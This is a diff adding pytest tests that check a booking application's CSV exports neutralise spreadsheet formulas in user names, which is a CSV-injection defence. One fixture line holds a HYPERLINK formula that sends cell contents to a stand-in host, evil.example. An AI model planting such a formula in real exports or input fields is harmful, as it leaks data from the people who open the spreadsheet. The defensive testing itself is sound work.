@@ -298,6 +298,52 @@ def test_the_reservations_of_the_period_as_csv_include_every_status(
     assert any("Bob Durand" in row for row in rows)
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2;"Amina")'
+
+
+@pytest.mark.parametrize(
+    ("path", "args"),
+    [
+        ("/reports/statements.csv", {"table": "lines", "venue": "atelier", "month": "2026-10"}),
+        ("/reports/statements.csv", {"table": "members", "venue": "atelier", "month": "2026-10"}),
+        ("/reports/reservations.csv", OCTOBER),
+    ],
+)
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_csv(
+    client, auth, month: data.Month, path: str, args: dict
+) -> None:
+    """A member who names themself like a spreadsheet formula does not get it run on the
+    manager's computer (OWASP's CSV injection): the cell starts with an apostrophe, which
+    spreadsheets hide; numbers stay numbers, negative ones included."""
+    from booking.models import User
+
+    bob = db.session.scalar(db.select(User).where(User.display_name == "Bob Durand"))
+    bob.display_name = FORMULA
+    db.session.commit()
+    auth.login("gerante@example.org")
+    rows = _csv(_get(client, path, **args))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULA in cells
+    live = [
+        cell
+        for cell in cells
+        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        and not re.fullmatch(r"-\d+(,\d+)?", cell)
+    ]
+    assert live == []
+
+
+def test_csv_cells_neutralise_formulas_and_keep_numbers() -> None:
+    from booking.presentation.exports import csv_value
+    from booking.presentation.tables import Kind
+
+    for text in ("=1+2", "+33 6 12", "-x", "@SUM(A1)", "\tTab", "\rCR"):
+        assert csv_value(Kind.TEXT, text) == "'" + text
+    assert csv_value(Kind.TEXT, "Amina") == "Amina"
+    assert csv_value(Kind.CHANGE, -0.255) == "-25,5"
+    assert csv_value(Kind.MONEY, -1250) == "-12,50"
+
+
 def _sheets(body: bytes) -> dict[str, list[list[tuple[str | None, object]]]]:
     """Each sheet's rows, each cell as (value type, value), read back by odfdo."""
     document = Document(io.BytesIO(body))
